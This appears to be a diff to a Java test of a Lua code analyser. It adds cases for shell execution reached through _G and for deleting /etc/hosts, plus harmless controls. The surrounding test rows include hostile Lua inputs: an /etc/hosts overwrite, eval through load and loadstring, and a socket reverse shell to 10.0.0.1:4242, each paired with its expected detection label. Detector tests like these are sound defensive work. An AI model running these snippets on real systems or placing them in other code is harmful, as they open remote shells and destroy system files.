@@ -22,6 +22,8 @@ class LuaInlineTest {
         row("local f = io.open(\"/etc/hosts\", \"w\") f:write(\"x\")", "write:/etc/hosts"),
         row("load(\"os.execute('id')\")()", "eval:load", "shell:id"),
         row("loadstring(io.read())()", "eval~:loadstring", "opaque"),
+        row("_G['os']['execute']('id')", "shell:id"),
+        row("_G.os.remove('/etc/hosts')", "delete:/etc/hosts"),
         row(
             "local s=require('socket'):tcp() s:connect('10.0.0.1',4242) os.execute('/bin/sh -i <&3 >&3')",
             "net:socket.tcp.connect",
@@ -41,7 +43,9 @@ class LuaInlineTest {
         row("local t = {a = 1} print(t.a)"),
         row("print(string.format('%d', 42))"),
         row("print(io.open('x.txt', 'r'):read('*a'))"),
-        row("print(('x'):rep(3))"));
+        row("print(('x'):rep(3))"),
+        row("local t = {} t['k'] = 1 print(t.k)"),
+        row("print(_VERSION)"));
   }
 
   @ParameterizedTest(name = "{0}")
